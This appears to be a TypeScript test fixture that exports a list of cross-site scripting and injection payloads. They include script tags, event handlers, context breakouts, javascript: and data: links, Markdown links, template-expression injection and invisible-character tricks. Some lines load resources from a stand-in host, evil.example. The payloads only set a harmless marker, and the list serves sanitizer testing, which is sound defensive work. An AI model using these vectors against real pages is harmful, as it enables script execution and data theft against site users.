const RUN = 'window.broken=1'

/** Texts that would run, load or lead somewhere if any were taken for markup, an address, a style, an expression or a template. */
export const PAYLOADS: readonly string[] = [
  // Elements that run something.
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
  `<iframe src="javascript:parent.broken=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  // Handlers.
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN} `,
  `<img/src/onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload="${RUN}">`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<select autofocus onfocus="${RUN}">`,
  `<div style="animation-name:appear" onanimationstart="${RUN}">x</div>`,
  // Ways out of the place the text stands in.
  `"><svg onload="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' style='position:fixed;inset:0' onmousemove='${RUN}`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  '\\u003cscript\\u003ewindow.broken=1\\u003c/script\\u003e',
  '&lt;script&gt;window.broken=1&lt;/script&gt;',
  '%3Cscript%3Ewindow.broken=1%3C/script%3E',
  // Addresses.
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/s.css">`,
  `<math><mi xlink:href="javascript:${RUN}">x`,
  // Markdown.
  `[a link](javascript:${RUN})`,
  `[a link]( javascript:${RUN} "x")`,
  `[a link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=)`,
  '![a picture](https://evil.example/p.png)',
  `![x](x" onerror="${RUN})`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n[x]`,
  // Styles.
  '<style>@import "https://evil.example/s.css"</style>',
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  // Templates and expressions, as charts and frameworks read them.
  `{{constructor.constructor("${RUN}")()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload
  '${window.broken=1}',
  `datum['constructor']['constructor']('${RUN}')()`,
  // Order of writing turned around, and what no eye sees.
  `\u202e<script>${RUN}</script>\u202c\u200b`,
]
